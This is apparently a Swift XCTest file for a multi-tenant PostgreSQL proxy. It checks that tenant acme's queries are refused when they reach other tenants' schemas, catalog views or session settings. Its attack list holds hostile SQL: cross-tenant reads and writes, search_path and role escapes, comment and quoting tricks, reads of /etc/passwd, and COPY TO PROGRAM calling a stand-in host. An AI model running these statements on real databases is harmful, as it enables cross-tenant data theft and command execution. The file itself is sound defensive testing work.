// Attacks by tenant acme (schema tenant_acme) on other tenants' schemas, the catalog and the session.

import BulkheadSQL
import XCTest

final class SchemaModeAttackTests: XCTestCase {
    private let policy = Policies.acmeSchema

    /// Every statement here must be refused for tenant acme.
    static let attacks: [String] = [
        // Identifier spellings of another tenant's schema.
        "SELECT * FROM tenant_globex.documents",
        "SELECT * FROM \"tenant_globex\".documents",
        "SELECT * FROM TENANT_GLOBEX.DOCUMENTS",
        "SELECT * FROM Tenant_Globex.\"documents\"",
        "SELECT * FROM U&\"tenant\\005fglobex\".documents",
        "SELECT * FROM U&\"tenant!005fglobex\" UESCAPE '!' .documents",
        "SELECT * FROM docs.tenant_globex.documents",
        // A column qualified with another schema (PostgreSQL would reject it too, but the rule is the proxy's).
        "SELECT tenant_globex.documents.title FROM documents",
        "SELECT docs.tenant_globex.documents.* FROM documents",
        "SELECT * FROM tenant_globex . documents",
        "SELECT * FROM tenant_globex/**/.documents",
        "SELECT * FROM \"Tenant_Acme\".documents",
        "SELECT * FROM app.documents",
        "SELECT * FROM auth.users",
        "SELECT * FROM public.documents",
        "SELECT * FROM documents d JOIN tenant_initech.documents x ON x.id = d.id",
        "SELECT * FROM documents WHERE id IN (SELECT id FROM tenant_globex.documents)",
        "SELECT (SELECT title FROM tenant_globex.documents LIMIT 1)",
        "SELECT * FROM documents WHERE EXISTS (SELECT 1 FROM tenant_globex.documents)",
        "SELECT * FROM documents, LATERAL (SELECT * FROM tenant_globex.documents) x",
        "WITH x AS (SELECT * FROM tenant_globex.documents) SELECT * FROM x",
        "WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT 1 FROM tenant_globex.documents) SELECT * FROM x",
        "SELECT 1 UNION SELECT id FROM tenant_globex.documents",
        "SELECT * FROM documents ORDER BY (SELECT max(id) FROM tenant_globex.documents)",
        "SELECT count(*) FILTER (WHERE id IN (SELECT id FROM tenant_globex.documents)) FROM documents",
        "VALUES ((SELECT title FROM tenant_globex.documents LIMIT 1))",
        "SELECT * FROM pg_temp.documents",
        "SELECT * FROM pg_toast.pg_toast_2619",
        "SELECT json_populate_record(NULL::tenant_globex.documents, '{}')",
        "SELECT NULL::tenant_globex.documents",
        // search_path, role and session escapes.
        "SET search_path = tenant_globex",
        "SET search_path TO DEFAULT",
        "SET LOCAL search_path = tenant_globex, public",
        "SET SCHEMA 'tenant_globex'",
        "SET \"search_path\" = tenant_globex",
        "SET SEARCH_PATH = tenant_globex",
        "RESET search_path",
        "SET ROLE postgres",
        "SET LOCAL ROLE tenant_globex",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION postgres",
        "SET row_security = off",
        "RESET ALL",
        "DISCARD ALL",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'GBK'",
        "SET standard_conforming_strings = off",
        "SET bulkhead.tenant_id = 2",
        "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
        "ALTER ROLE CURRENT_USER SET search_path = tenant_globex",
        "ALTER DATABASE docs SET search_path = tenant_globex",
        "ALTER SYSTEM SET search_path = tenant_globex",
        // set_config anywhere.
        "SELECT set_config('search_path', 'tenant_globex', false)",
        "SELECT pg_catalog.set_config('search_path', 'tenant_globex', false)",
        "SELECT * FROM documents WHERE set_config('search_path', 'tenant_globex', true) IS NOT NULL",
        "SELECT * FROM documents ORDER BY set_config('role', 'postgres', true)",
        "SELECT lower(set_config('search_path', 'tenant_globex', false))",
        "SELECT * FROM set_config('search_path', 'tenant_globex', false)",
        "INSERT INTO documents (title) VALUES (set_config('search_path', 'tenant_globex', false))",
        "UPDATE documents SET title = set_config('search_path', 'x', false)",
        "DELETE FROM documents WHERE id = length(set_config('search_path', 'x', false))",
        "SELECT 1 FROM documents GROUP BY set_config('search_path', 'x', false)",
        "SELECT row_number() OVER (ORDER BY set_config('search_path', 'x', false)) FROM documents",
        "WITH x AS (SELECT set_config('search_path', 'x', false)) SELECT * FROM x",
        "SELECT CASE WHEN true THEN set_config('search_path', 'x', false) END",
        "SELECT * FROM documents LIMIT length(set_config('search_path', 'x', false))",
        "EXPLAIN ANALYZE SELECT set_config('search_path', 'x', false)",
        "COPY (SELECT set_config('search_path', 'x', false)) TO STDOUT",
        "DECLARE c CURSOR FOR SELECT set_config('search_path', 'x', false)",
        "INSERT INTO documents (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET title = set_config('a', 'b', false)",
        "UPDATE documents SET title = 'x' RETURNING set_config('search_path', 'x', false)",
        "SELECT ARRAY[set_config('search_path', 'x', false)]",
        "SELECT set_config('search_path', 'x', false)::text",
        // Multi-statement messages.
        "SELECT 1; SET search_path = tenant_globex",
        "SELECT 1; SELECT * FROM tenant_globex.documents",
        "BEGIN; DROP TABLE documents; COMMIT",
        "SELECT 1;;; DISCARD ALL",
        "SELECT 1 -- \n; SELECT * FROM tenant_globex.documents",
        // Dollar quoting, comments and escape strings that try to hide a second statement.
        "SELECT $a$ $$ $a$, * FROM tenant_globex.documents",
        "SELECT 'x'/*'*/, * FROM tenant_globex.documents",
        "SELECT E'\\'', * FROM tenant_globex.documents --'",
        "SELECT '\\', * FROM tenant_globex.documents -- '",
        "SELECT U&'\\0027', * FROM tenant_globex.documents",
        "SELECT $$;$$; SELECT * FROM tenant_globex.documents",
        "SELECT * FROM documents /* unterminated",
        "SELECT 'unterminated",
        "SELECT 1\u{0}; SELECT * FROM tenant_globex.documents",
        // Writes across tenants and into global or catalog tables.
        "INSERT INTO tenant_globex.documents (title) VALUES ('x')",
        "UPDATE tenant_globex.documents SET title = 'x'",
        "DELETE FROM tenant_globex.documents",
        "DELETE FROM documents USING tenant_globex.documents g WHERE g.id = documents.id",
        "UPDATE documents SET title = g.title FROM tenant_globex.documents g",
        "INSERT INTO documents (title) SELECT title FROM tenant_globex.documents",
        "INSERT INTO public.plans (name, max_documents) VALUES ('x', 1)",
        "UPDATE public.plans SET max_documents = 0",
        "DELETE FROM public.plans",
        "INSERT INTO pg_catalog.pg_class (relname) VALUES ('x')",
        "UPDATE pg_class SET relname = 'x'",
        "TRUNCATE documents",
        "MERGE INTO documents d USING folders f ON f.id = d.folder_id WHEN MATCHED THEN DELETE",
        // ON CONFLICT, RETURNING and data-modifying CTEs that reach out.
        "INSERT INTO documents (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET title = (SELECT title FROM tenant_globex.documents LIMIT 1)",
        "UPDATE documents SET title = 'x' RETURNING (SELECT content FROM tenant_globex.documents LIMIT 1)",
        "DELETE FROM documents RETURNING (SELECT 1 FROM tenant_globex.documents LIMIT 1)",
        "WITH d AS (DELETE FROM tenant_globex.documents RETURNING *) SELECT * FROM d",
        "WITH d AS (UPDATE tenant_globex.documents SET title = 'x' RETURNING *) SELECT 1",
        "WITH d AS (INSERT INTO tenant_globex.documents (title) VALUES ('x') RETURNING *) SELECT 1",
        // Functions and views that read across tenants.
        "SELECT query_to_xml('select * from tenant_globex.documents', true, true, '')",
        "SELECT table_to_xml('tenant_globex.documents', true, true, '')",
        "SELECT database_to_xml(true, true, '')",
        "SELECT cursor_to_xml('c', 10, true, true, '')",
        "SELECT ts_stat('select to_tsvector(title) from tenant_globex.documents')",
        "SELECT * FROM dblink('dbname=docs', 'select * from tenant_globex.documents') AS t(a text)",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_get(1234)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/passwd')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT nextval('tenant_globex.documents_id_seq')",
        "SELECT currval('documents_id_seq')",
        "SELECT pg_relation_size('tenant_globex.documents')",
        "SELECT pg_stat_get_live_tuples('tenant_globex.documents'::regclass)",
        "SELECT current_setting('search_path')",
        "SELECT pg_terminate_backend(1)",
        "SELECT pg_cancel_backend(1)",
        "SELECT pg_reload_conf()",
        "SELECT pg_sleep(10)",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_try_advisory_xact_lock(1)",
        "SELECT tenant_globex.some_function()",
        "SELECT public.lower('x')",
        "SELECT \"LOWER\"('x')",
        "SELECT 1 OPERATOR(tenant_globex.+) 1",
        "SELECT xmlelement(name a, 'x')",
        "SELECT '<a/>'::xml",
        "SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x int)",
        "SELECT * FROM tenant_globex.documents_view",
        // COPY.
        "COPY tenant_globex.documents TO STDOUT",
        "COPY documents TO '/tmp/leak'",
        "COPY documents FROM '/etc/passwd'",
        "COPY documents FROM PROGRAM 'id'",
        "COPY documents TO PROGRAM 'curl evil'",
        "COPY (SELECT * FROM tenant_globex.documents) TO STDOUT",
        "COPY public.plans FROM STDIN",
        // Catalog and statistics views.
        "SELECT * FROM pg_stats",
        "SELECT * FROM pg_catalog.pg_stats",
        "SELECT * FROM PG_STATS",
        "SELECT * FROM \"pg_stats\"",
        "SELECT most_common_vals FROM pg_stats WHERE tablename = 'documents'",
        "SELECT * FROM pg_statistic",
        "SELECT * FROM pg_stats_ext",
        "SELECT * FROM pg_stat_activity",
        "SELECT query FROM pg_catalog.pg_stat_activity",
        "SELECT * FROM pg_stat_statements",
        "SELECT * FROM public.pg_stat_statements",
        "SELECT * FROM pg_prepared_statements",
        "SELECT * FROM pg_cursors",
        "SELECT * FROM pg_largeobject",
        "SELECT * FROM pg_locks",
        "SELECT * FROM pg_settings",
        "SELECT * FROM pg_authid",
        "SELECT * FROM pg_shadow",
        "SELECT * FROM pg_user_mappings",
        "SELECT * FROM pg_stat_user_tables",
        "SELECT * FROM pg_statio_user_tables",
        "SELECT * FROM pg_sequences",
        "SELECT * FROM pg_prepared_xacts",
        "SELECT * FROM pg_some_future_view",
        "SELECT * FROM information_schema.user_mapping_options",
        "SELECT * FROM documents WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_stats)",
        "SHOW ALL",
        "SHOW data_directory",
        "SHOW hba_file",
        // Prepared statements, cursors, temp tables, LISTEN/NOTIFY.
        "PREPARE p AS SELECT 1",
        "PREPARE p AS SELECT * FROM tenant_globex.documents",
        "EXECUTE p",
        "EXPLAIN EXECUTE p",
        "DEALLOCATE ALL",
        "DEALLOCATE p",
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM documents",
        "DECLARE c CURSOR FOR SELECT * FROM tenant_globex.documents",
        "CREATE TEMP TABLE t AS SELECT * FROM documents",
        "CREATE TEMPORARY TABLE documents (id int)",
        "CREATE TEMP VIEW v AS SELECT 1",
        "SELECT * INTO TEMP t FROM documents",
        "SELECT * INTO t FROM documents",
        "LISTEN tenant_globex_events",
        "NOTIFY events, 'x'",
        "SELECT pg_notify('events', 'x')",
        "SELECT pg_listening_channels()",
        // Everything else outside the allowlist.
        "DO $$ BEGIN PERFORM 1; END $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        "CREATE TABLE t (a int)",
        "DROP TABLE documents",
        "GRANT ALL ON documents TO public",
        "REVOKE ALL ON documents FROM public",
        "PREPARE TRANSACTION 'x'",
        "COMMIT PREPARED 'x'",
        "LOCK TABLE documents",
        "VACUUM documents",
        "ANALYZE documents",
        "CALL do_something()",
        "LOAD 'plpgsql'",
        "CHECKPOINT",
        "CREATE EXTENSION dblink",
        "CREATE ROLE x SUPERUSER",
        "EXPLAIN SELECT * FROM tenant_globex.documents",
        // Row locks on rows every tenant shares: an open FOR UPDATE on plans holds off everyone's foreign-key checks.
        "SELECT * FROM public.plans FOR UPDATE",
        "SELECT * FROM public.plans FOR KEY SHARE NOWAIT",
        "SELECT * FROM documents d JOIN public.plans p ON true FOR UPDATE",
        "SELECT * FROM documents d JOIN public.plans p ON true FOR SHARE OF p",
        "SELECT * FROM (SELECT * FROM public.plans) s FOR UPDATE",
        "WITH p AS (SELECT * FROM public.plans FOR UPDATE) SELECT * FROM p",
        "SELECT * FROM public.plans TABLESAMPLE SYSTEM (100) FOR UPDATE OF plans",
        "SELECT * FROM pg_catalog.pg_class FOR UPDATE",
        "SELECT * FROM pg_namespace FOR SHARE",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM public.plans FOR UPDATE)",
    ]

    func testEveryAttackIsRefused() {
        for sql in Self.attacks {
            assertRefused(sql, policy)
        }
    }

    func testRefusalsNameTheRuleAndPosition() throws {
        let sql = "SELECT * FROM documents d JOIN tenant_globex.documents g ON g.id = d.id"
        guard case .failure(let refusal) = TenantGate.check(sql, policy: policy) else {
            return XCTFail("expected refusal")
        }
        XCTAssertEqual(refusal.sqlState, "42501")
        XCTAssertEqual(refusal.message, "bulkhead: schema tenant_globex is outside tenant acme")
        XCTAssertEqual(refusal.position, 32)
        assertRefused("DO $$ BEGIN END $$", policy, state: "0A000", containing: "DO statements")
        assertRefused("SET search_path = x", policy, state: "42501", containing: "search_path")
        assertRefused("SELECT * FORM documents", policy, state: "42601", containing: "does not parse")
        assertRefused("SELECT pg_sleep(1)", policy, state: "42501", containing: "function pg_sleep")
        guard case .failure(let unicode) = TenantGate.check("SELECT 'é', * FROM tenant_globex.documents", policy: policy) else {
            return XCTFail("expected refusal")
        }
        XCTAssertEqual(unicode.position, 20, "positions count characters, not bytes")
    }

    func testOwnSchemaAndGlobalsAndCatalogAreAllowedUnchanged() {
        let allowed = [
            "SELECT * FROM documents",
            "SELECT * FROM tenant_acme.documents",
            "SELECT * FROM \"tenant_acme\".\"documents\"",
            "SELECT * FROM TENANT_ACME.documents",
            "SELECT * FROM docs.tenant_acme.documents",
            "SELECT tenant_acme.documents.title FROM tenant_acme.documents",
            "SELECT * FROM public.plans",
            "SELECT p.name FROM public.plans p JOIN organizations o ON true",
            "SELECT * FROM documents d JOIN public.plans p ON true FOR UPDATE OF d",
            "SELECT * FROM documents d WHERE d.plan_id IN (SELECT id FROM public.plans) FOR UPDATE",
            "WITH p AS (SELECT * FROM public.plans) SELECT * FROM p, documents FOR UPDATE",
            "INSERT INTO documents (title) VALUES ('x')",
            "INSERT INTO tenant_acme.documents (title) VALUES ($1) RETURNING id",
            "UPDATE documents SET title = 'x' WHERE id = 1",
            "DELETE FROM tenant_acme.documents WHERE id = $1",
            "COPY documents TO STDOUT",
            "COPY documents FROM STDIN WITH (FORMAT csv)",
            "COPY public.plans TO STDOUT",
            "SELECT n.nspname FROM pg_catalog.pg_namespace n JOIN pg_type t ON t.typnamespace = n.oid",
            "SELECT table_name FROM information_schema.tables",
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'documents'",
            "WITH pg_stats AS (SELECT 1 AS a) SELECT a FROM pg_stats",
            "SELECT $$; SELECT * FROM tenant_globex.documents; $$",
            "SHOW search_path",
            "SET application_name = 'acme-web'",
            "SET client_encoding = 'UTF8'",
            "SET standard_conforming_strings = on",
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            "BEGIN READ ONLY",
            "DECLARE c CURSOR FOR SELECT * FROM documents",
            "FETCH 10 FROM c",
            "CLOSE c",
            "UNLISTEN *",
            "DELETE FROM documents WHERE CURRENT OF c",
        ]
        for sql in allowed {
            XCTAssertEqual(assertAllowed(sql, policy), sql, "schema mode rewrites only pg_class")
        }
    }

    func testACommentOnlyTextHasNoStatement() throws {
        let verdict = try TenantGate.check("/* /* */ SELECT * FROM tenant_globex.documents */", policy: policy).get()
        XCTAssertEqual(verdict.statementCount, 0)
    }
}
